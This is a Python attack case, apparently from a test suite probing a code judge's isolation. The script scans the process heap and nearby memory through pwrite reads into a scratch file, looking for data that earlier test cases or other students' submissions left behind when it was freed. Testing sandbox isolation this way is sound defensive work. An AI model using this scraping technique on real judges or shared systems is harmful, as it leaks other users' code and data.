# /// attack
# tries = "Search its own memory for what an earlier case or another student's submission left there when it was freed."
# verdicts = ["accepted"]
# repeated = true
# grouped = true
# ///
import re

STEP = 1 << 16
# Looked for without standing anywhere: neither in the submission nor in the pattern.
MARK = re.compile("".join("[" + chr(92) + f"x{255 - byte:02x}]" for byte in b"left behind by me").encode())


def mark():
    return bytes(255 - byte for byte in b"left behind by me")


def found():
    scratch, count = os.open("/tmp/scratch", os.O_RDWR | os.O_CREAT), 0
    _libc.sbrk.restype = ctypes.c_void_p
    end = _libc.sbrk(0)
    areas = [(end - (64 << 20), end)]
    areas += [(id(thing) - (16 << 20), id(thing) + (16 << 20)) for thing in (object(), bytearray(1 << 20), np.empty(9))]
    for start, end in areas:
        for place in range(start & -STEP, end, STEP):
            many = _libc.pwrite(scratch, ctypes.c_void_p(place), ctypes.c_size_t(STEP), ctypes.c_long(0))
            count += len(MARK.findall(os.pread(scratch, many, 0))) if many > 0 else 0
    return count


def attack(root, worker):
    if found():
        LOOT.append("memory of an earlier case")
    kept = [mark() * size for size in (1, 100, 10_000)] + [np.frombuffer(mark(), np.uint8).copy()]
    assert found(), "not even its own is found"
    del kept
    return LOOT
